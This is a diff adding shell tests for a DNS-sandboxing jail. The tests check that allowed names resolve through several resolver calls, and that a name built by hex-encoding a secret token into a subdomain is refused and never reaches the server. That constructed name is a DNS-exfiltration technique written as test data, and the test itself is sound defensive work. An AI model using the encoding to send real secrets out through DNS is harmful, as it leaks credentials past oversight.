@@ -29,6 +29,20 @@ if command -v dig >/dev/null; then
 else
 	fail "dig is not installed (bind9-dnsutils)"
 fi
+R="$top_builddir/t/dns/resolvers"
+for mode in res_query res_nquery gai_a gai_a_nowait ghbn2r; do
+	out=$(jail $J -- "$R" $mode www.allowed.test 2>/dev/null)
+	check "$mode resolves an allowed name ($out)" sh -c "echo '$out' | grep -q '^ok'"
+done
+out=$(jail $J -- "$R" res_search txt.allowed.test 2>/dev/null)
+check "res_search (TXT) resolves an allowed name" [ "$out" = "ok 1" ]
+check "res_* queries are judged with their type" event_has '"host":"txt.allowed.test"' 'via res_query'
+EXF="$(printf '%s' "$TOKEN" | od -An -tx1 | tr -d ' \n' | cut -c1-56).allowed.test"
+for mode in res_query res_nquery gai_a gai_a_nowait ghbn2r; do
+	out=$(jail $J -- "$R" $mode "$EXF" 2>/dev/null)
+	check "$mode: an exfiltrating name is refused ($out)" sh -c "echo '$out' | grep -q '^fail'"
+done
+check "none of them reached the server" [ "$(grep -c "$(echo "$EXF" | cut -c1-20)" "$DNS_LOG")" -eq 0 ]
 check "raw queries are judged and evented" event_has '"op":"resolve"' '"host":"www.allowed.test"' 'via raw-dns'
 
 # -- one-query exfiltration of the canary, three encodings, three paths
